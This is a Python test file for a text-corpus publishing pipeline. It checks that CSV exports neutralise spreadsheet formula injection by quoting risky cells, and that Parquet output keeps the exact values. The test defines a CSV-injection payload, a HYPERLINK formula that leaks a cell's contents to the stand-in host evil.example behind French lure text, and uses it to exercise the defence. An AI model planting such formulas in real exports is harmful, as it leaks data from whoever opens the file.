"""CSV cells that a spreadsheet would run as a formula are quoted; Parquet keeps them exact."""

from __future__ import annotations

import csv
import io
import json

import frictionless
import polars as pl
import pyarrow.parquet as pq
import pytest

from corpuscheck.pipeline import build
from corpuscheck.publish.csvfile import FORMULA_STARTS, spreadsheet_safe_frame
from tests.conftest import MANIFEST_HEADER

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici pour lire la suite")'


def csv_rows(path):
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


@pytest.fixture
def published(make_corpus, tmp_path):
    manifest = MANIFEST_HEADER + (
        "attack.txt,fr,@SUM(1+1),-source,,,,\nplain.txt,fr,Un titre,Le Monde,,,,\n"
    )
    root = make_corpus(
        {
            "attack.txt": ATTACK + "\nLe reste du texte est en français ordinaire.\n",
            "plain.txt": "Le gouvernement a annoncé lundi une série de mesures.\n",
        },
        manifest=manifest,
    )
    out = tmp_path / "out"
    build(root, out)
    return out


def test_a_formula_is_quoted_in_csv(published):
    rows = {row["id"]: row for row in csv_rows(published / "data/documents.csv")}
    assert rows["attack"]["text"].startswith("'" + ATTACK)
    assert rows["attack"]["title"] == "'@SUM(1+1)"
    assert rows["attack"]["source"] == "'-source"
    assert rows["plain"]["text"].startswith("Le gouvernement")
    assert rows["plain"]["title"] == "Un titre"


def test_parquet_keeps_the_exact_values(published):
    rows = {r["id"]: r for r in pq.read_table(published / "data/documents.parquet").to_pylist()}
    assert rows["attack"]["text"].startswith(ATTACK)
    assert rows["attack"]["title"] == "@SUM(1+1)"
    assert rows["attack"]["source"] == "-source"


def test_numbers_are_never_quoted(published):
    for row in csv_rows(published / "data/documents.csv"):
        assert row["length"].isdigit()


def test_the_csv_resources_say_so(published):
    package = json.loads((published / "datapackage.json").read_text(encoding="utf-8"))
    for resource in package["resources"]:
        if resource["format"] == "csv":
            assert "single quote" in resource["description"]
            assert "CSV injection" in resource["description"]


def test_the_quoted_package_is_still_valid(published):
    report = frictionless.validate(str(published / "datapackage.json"))
    assert report.valid, report.flatten(["taskName", "rowNumber", "fieldName", "type", "note"])


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_quoted(start):
    frame = pl.DataFrame({"text": [f"{start}x", f"a{start}x"]})
    assert spreadsheet_safe_frame(frame)["text"].to_list() == [f"'{start}x", f"a{start}x"]
